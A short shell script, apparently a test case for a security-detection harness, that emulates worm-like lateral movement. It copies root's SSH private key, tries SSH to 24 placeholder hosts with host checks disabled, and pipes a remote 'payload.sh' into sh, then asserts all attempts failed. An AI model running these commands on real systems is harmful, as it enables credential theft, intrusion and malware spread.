#!/bin/sh
. /opt/case/case.sh

cp /root/.ssh/id_rsa /tmp/.k && chmod 600 /tmp/.k
for h in $(seq 1 24); do
    timeout 3 ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=1 -i /tmp/.k "root@198.51.100.$h" \
        '(curl -s http://203.0.113.10/payload.sh || wget -qO- http://203.0.113.10/payload.sh) | sh' </dev/null 2>/dev/null || echo "$h" >>/tmp/tried &
done
wait
test "$(wc -l </tmp/tried)" = 24
took_place
